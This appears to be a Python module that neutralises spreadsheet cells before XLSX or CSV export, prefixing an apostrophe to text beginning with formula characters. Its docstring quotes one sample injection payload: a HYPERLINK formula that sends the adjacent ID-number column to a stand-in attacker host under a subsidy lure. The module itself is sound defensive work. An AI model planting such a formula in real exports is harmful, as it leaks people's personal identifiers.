"""Spreadsheet exports that cannot run code: every text cell is neutralised before it is written.

A member named ``=HYPERLINK("http://evil.example/?"&C3,"领补贴")`` would otherwise come out of an XLSX or CSV
export as a live formula that leaks the next column (an ID number) when the accountant clicks it. Excel,
WPS and LibreOffice treat a cell as a formula or DDE call when it starts with one of these characters.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def safe_cell(value: Any) -> Any:
    """Text that a spreadsheet would read as a formula gets a leading apostrophe; other values pass."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]
